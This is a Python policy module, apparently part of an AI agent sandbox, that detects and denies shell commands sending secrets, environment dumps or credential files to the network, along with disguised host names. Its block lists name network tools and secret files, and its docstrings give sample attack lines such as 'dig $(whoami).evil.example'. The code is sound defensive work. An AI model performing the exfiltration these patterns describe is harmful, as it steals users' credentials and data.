"""Exfiltration: secrets or the environment sent to the network, and network addresses in disguise.

Data is *sensitive* when it comes from the environment (`env`, `printenv`, `set`, `export -p`,
/proc/*/environ), from credential files, from system files (/etc, /proc, /var/log) or from files in
home directories outside the workspace. The flow analysis carries that through pipes, command
substitutions and encoders (`base64`, `gzip`, `tar`, `xxd`...). A network program that sends
sensitive data (upload options, a pipe into `nc`, a DNS name built from a command's output) is
denied, whatever interpreter does it: code in Python, Node, Ruby, Perl or PHP that reads secrets
or the environment and talks to the network is denied too.

Host names with a NUL byte, percent-encoding, backslashes, non-ASCII characters, credentials that
look like a host (`https://github.com@evil.example`) or numeric IPs in disguise (`0x7f000001`,
`2130706433`, `0177.0.0.1`) are denied: they exist to slip past allow-lists.
"""

from __future__ import annotations

import fnmatch
import os
import re

from llmos.kernel.policy.decision import words
from llmos.kernel.policy.paths import SECRET_NAMES, UNKNOWN, is_inside
from llmos.kernel.policy.shell import Cmd, Flow, ShellAnalyzer

SENSITIVE = Flow("sensitive")
ENV_DUMPS = words("env printenv set export declare typeset compgen")
READERS = words(
    "cat head tail less more strings xxd od hexdump base64 base32 basenc gzip bzip2 xz zstd lz4 tar bsdtar",
    "zip 7z cpio jq yq grep egrep fgrep rg awk gawk sed tac nl dd openssl sort uniq cut tr rev fold",
    "column paste gpg",
)
TRANSFORMERS = READERS | words("tee xargs iconv gunzip zcat uuencode python python3 perl ruby node")
UPLOADERS = words(
    "curl wget nc ncat netcat socat telnet ssh scp sftp rsync mail mailx sendmail mutt ftp tftp http https"
)
DNS_TOOLS = words("dig nslookup host drill ping ping6 traceroute tracepath kdig delv")
CURL_DATA = words(
    "-d --data --data-binary --data-raw --data-ascii --data-urlencode --json -F --form --form-string -T",
    "--upload-file -H --header --url-query",
)
WGET_DATA = ("--post-file", "--body-file", "--post-data", "--body-data", "--header")

_NET_CODE = re.compile(
    r"urlopen|urllib|requests\.|httpx|http\.client|HTTPConnection|socket|smtplib|ftplib|\bfetch\(|axios|"
    r"XMLHttpRequest|https?\.request|Net::HTTP|HTTP::Tiny|LWP|TCPSocket|fsockopen|curl_exec|\bcurl\b|\bwget\b|"
    r"paramiko|boto3|dns\.resolver|getaddrinfo|gethostbyname|\.request\(|require\(\s*['\"]https?['\"]|"
    r"['\"]https?://|file_get_contents|http_build_query|Invoke-WebRequest|WebClient|IO::Socket|Socket::INET"
)
_SECRET_CODE = re.compile(
    r"`\s*(env|printenv|set)\s*`|os\.environ|environ\b|getenv|process\.env|\bENV\b|%ENV|\$ENV\{|Deno\.env|System\.getenv|\.ssh/|id_rsa|id_ed25519|\.aws/|\.netrc|"
    r"\.git-credentials|/etc/(passwd|shadow|sudoers)|\.gnupg|\.kube/config|\.docker/config|/proc/self/environ|"
    r"\.env['\"]|\.pypirc|\.npmrc|\.config/gh"
)
_PATH_LITERAL = re.compile(r"""(['"])((?:~|/)[^'"\s]*)\1""")


def sensitive_path(a: ShellAnalyzer, value: str, cwd: str | None) -> bool:
    if not value or UNKNOWN in value or value in ("-", "/dev/stdin"):
        return False
    path = a.paths.resolve(value, cwd)
    if path is None:
        return False
    p = a.paths
    if p.secret(path) or any(fnmatch.fnmatchcase(os.path.basename(path), n) for n in SECRET_NAMES):
        return True
    if p.in_workspace(path):
        return False
    if re.match(r"^/proc/[^/]+/(environ|cmdline|maps|mem|auxv)$", path) or path.startswith(("/etc/", "/var/log/")):
        return True
    return bool(p.homes(path)) or path in ("/etc", "/root", "/home")


def env_dump(cmd: Cmd) -> bool:
    """`env`, `printenv`, `set`, `export -p`, `declare -p`: print the whole environment."""
    name, args = cmd.name, cmd.args
    if name in ("env", "printenv"):
        return all(x.startswith("-") or "=" in x for x in args) or name == "printenv"
    if name in ("set", "compgen"):
        return not args or (name == "compgen" and args in (["-v"], ["-e"]))
    return name in ("export", "declare", "typeset") and (not args or args[0] in ("-p", "-x", "-px", "-xp"))


def output_flow(a: ShellAnalyzer, cmd: Cmd, flow: Flow) -> Flow:
    """What `cmd` writes to stdout once sensitivity is taken into account."""
    if flow.kind in ("download", "network", "decoded"):
        return flow
    if env_dump(cmd):
        return SENSITIVE
    if cmd.stdin.kind == "sensitive" and cmd.name in TRANSFORMERS:
        return SENSITIVE
    if _whole_project(a, cmd):
        return SENSITIVE
    if cmd.name in READERS:
        to_file = (
            cmd.name in ("tar", "bsdtar")
            and any(
                (x.startswith("-") and not x.startswith("--") and "f" in x) or x.startswith("--file") for x in cmd.args
            )
            and "-" not in cmd.args
        )
        args = [x.partition("=")[2] if x.startswith("if=") else x for x in cmd.args]
        if not to_file and any(sensitive_path(a, x, cmd.st.cwd) for x in args if not x.startswith("-")):
            return SENSITIVE
    return flow


def _whole_project(a: ShellAnalyzer, cmd: Cmd) -> bool:
    """An archive of the whole workspace, or the project's history, written to stdout."""
    args = cmd.args
    if cmd.name == "git":
        sub = next((x for x in args if not x.startswith("-")), "")
        return (sub == "log" and any(x in ("-p", "--patch", "-u") for x in args)) or (
            sub in ("bundle", "archive", "fast-export") and not any(x.startswith(("-o", "--output")) for x in args)
        )
    if cmd.name not in ("tar", "bsdtar", "zip", "7z", "cpio"):
        return False
    to_stdout = "-" in args or (cmd.name in ("tar", "bsdtar") and not any("f" in x for x in args if x[:1] == "-"))
    roots = [a.paths.resolve(x, cmd.st.cwd) for x in args if not x.startswith("-") and UNKNOWN not in x]
    return to_stdout and any(r is not None and is_inside(a.paths.workspace, r) for r in roots)


def _exfil(a: ShellAnalyzer, cmd: Cmd, what: str) -> None:
    a.add("deny", "shell.exfiltration", f"{cmd.name} sends {what} to the network", cmd.subject)


def _sent_files(cmd: Cmd) -> list[str]:
    """The files a curl/wget command uploads: `-T FILE`, `-d @FILE`, `-F name=@FILE`, `--post-file=FILE`."""
    names = CURL_DATA if cmd.name == "curl" else WGET_DATA
    pairs: list[tuple[str, str]] = []
    args = cmd.args
    for i, x in enumerate(args):
        if x in names and i + 1 < len(args):
            pairs.append((x, args[i + 1]))
        elif x.startswith("--") and "=" in x and x.partition("=")[0] in names:
            pairs.append((x.partition("=")[0], x.partition("=")[2]))
        elif cmd.name == "curl" and re.match(r"^-[dFT]\S", x):
            pairs.append((x[:2], x[2:]))
    out: list[str] = []
    for opt, v in pairs:
        if opt in ("-T", "--upload-file", "--post-file", "--body-file"):
            out.append(v)
            continue
        v = v.partition("=")[2] if re.match(r"^[\w.-]+=[@<]", v) else v
        if v.startswith(("@", "<")):
            out.append(v[1:].split(";", 1)[0])
    return out


def _written_sensitive(a: ShellAnalyzer, cmd: Cmd, value: str) -> bool:
    """A file this script filled with secrets or the environment earlier (`env > /tmp/e`)."""
    path = a.paths.resolve(value, cmd.st.cwd) if UNKNOWN not in value else None
    written = cmd.st.written.get(path or "")
    return written is not None and written.kind == "sensitive"


def check_upload(a: ShellAnalyzer, cmd: Cmd) -> None:
    """A network program: does it send sensitive data?"""
    name = cmd.name
    flows = {f.kind for f in cmd.flows}
    stdin_sensitive = cmd.stdin.kind == "sensitive"
    if "sensitive" in flows:
        _exfil(a, cmd, "the output of a command reading secrets or the environment")
        return
    if name in ("curl", "wget"):
        for f in _sent_files(cmd):
            if f in ("-", "/dev/stdin", "/dev/fd/0"):
                if stdin_sensitive:
                    _exfil(a, cmd, "secrets or the environment read from its input")
            elif sensitive_path(a, f, cmd.st.cwd) or _written_sensitive(a, cmd, f):
                _exfil(a, cmd, f"the file {f}")
        return
    if stdin_sensitive:
        _exfil(a, cmd, "secrets or the environment read from its input")
    elif name in ("scp", "rsync", "sftp") and any(":" in x and not x.startswith("-") for x in cmd.args):
        local = [x for x in cmd.args if not x.startswith("-") and ":" not in x]
        if any(sensitive_path(a, x, cmd.st.cwd) for x in local):
            _exfil(a, cmd, "system or home files")
    elif name in ("mail", "mailx", "mutt"):
        for i, x in enumerate(cmd.args[:-1]):
            if x in ("-a", "-A", "--attach") and sensitive_path(a, cmd.args[i + 1], cmd.st.cwd):
                _exfil(a, cmd, f"the file {cmd.args[i + 1]}")


def check_served(a: ShellAnalyzer, cmd: Cmd, directory: str) -> None:
    """A file server (`python -m http.server`) rooted outside the workspace and /tmp serves it to the network."""
    path = a.paths.resolve(directory, cmd.st.cwd) if UNKNOWN not in directory else None
    if path is None or not (a.paths.granted(path) or a.paths.scratch(path)):
        _exfil(a, cmd, f"the files under {path or directory} (a file server outside the workspace)")


def check_dns(a: ShellAnalyzer, cmd: Cmd) -> None:
    """`dig $(whoami).evil.example`, `dig $line.evil.example`: a name with a computed label carries data out."""
    built = [x for x in cmd.args if UNKNOWN in x and re.search(r"\x00[^/\s]*\.[A-Za-z]", x)]
    if built:
        _exfil(a, cmd, "data hidden in a DNS name (a name built from a command's output)")


def _odd_host(host: str) -> str | None:
    if not host:
        return None
    if "\x00" in host or re.search(r"[%\\\s]", host):
        return "encoded or control characters"
    if not host.isascii():
        return "non-ASCII characters"
    if host.startswith("["):
        return None
    labels = host.rstrip(".").split(".")
    if re.match(r"^\d{1,3}(\.\d{1,3}){3}\.[A-Za-z]", host):
        return "an IP address hidden in a name (wildcard DNS)"
    if re.fullmatch(r"[\d.]+", host) and len(labels) != 4:
        return "a numeric address in disguise"
    if re.fullmatch(r"0[xX][0-9a-fA-F]+|\d{4,}", host) or any(
        re.fullmatch(r"0[xX][0-9a-fA-F]*|0\d+", lab) for lab in labels
    ):
        return "a numeric address in disguise"
    if any(lab.lower().startswith("xn--") for lab in labels):
        return "an internationalised (punycode) name, a look-alike of another host"
    if not re.fullmatch(r"[A-Za-z0-9_.*-]+", host):
        return "characters a host name cannot hold"
    return None


def check_hosts(a: ShellAnalyzer, cmd: Cmd) -> None:
    """Deny URLs whose host is disguised (see the module docstring)."""
    if cmd.name == "curl" and any(x.startswith(("--resolve", "--connect-to")) for x in cmd.args):
        a.add("deny", "shell.odd_host", "curl --resolve/--connect-to sends a host name to another address", cmd.subject)
    for arg in cmd.args:
        if UNKNOWN in arg:
            continue
        m = re.search(r"(?i)\b[a-z][a-z0-9+.-]*://([^/?#\s'\"()<>{}|^`,;]*)", arg)
        if not m:
            continue
        netloc = m.group(1)
        userinfo, at, hostport = netloc.replace("\\@", "@").rpartition("@")
        host = hostport if hostport.startswith("[") else hostport.rsplit(":", 1)[0] if ":" in hostport else hostport
        why = _odd_host(host)
        if at and "." in userinfo.partition(":")[0]:
            why = why or f"credentials that look like a host ({userinfo}@)"
        if why:
            a.add("deny", "shell.odd_host", f"{cmd.name}: the address {arg!r} has {why}", cmd.subject)


def check_code(a: ShellAnalyzer, cmd: Cmd, code: str) -> None:
    """Code in any language that reads secrets or the environment and talks to the network."""
    if _NET_CODE.search(code) and _SECRET_CODE.search(code):
        _exfil(a, cmd, "secrets or the environment (from code that reads them and opens a connection)")
    for m in _PATH_LITERAL.finditer(code):
        value = m.group(2)
        if value not in ("/", "~") and not value.startswith(("/dev/", "/tmp/")):
            a.read_target(value, cmd.st, cmd.subject)


NET_PROGRAMS = (
    UPLOADERS
    | DNS_TOOLS
    | words(
        "wget2 aria2c lynx links w3m xh httpie pip pip3 npm npx pnpm pnpx yarn bun bunx uv uvx go docker podman",
        "apt apt-get gem cargo node nodejs deno ruby perl php lua openssl",
    )
)


def inspect(a: ShellAnalyzer, cmd: Cmd) -> None:
    """The checks of this module that apply to `cmd` before its own check runs."""
    if cmd.name in NET_PROGRAMS or cmd.name.startswith(("python", "pypy")):
        check_hosts(a, cmd)
    if cmd.name in UPLOADERS or (cmd.name == "openssl" and cmd.args[:1] in (["s_client"], ["s_server"])):
        check_upload(a, cmd)
    elif cmd.name in DNS_TOOLS:
        check_dns(a, cmd)
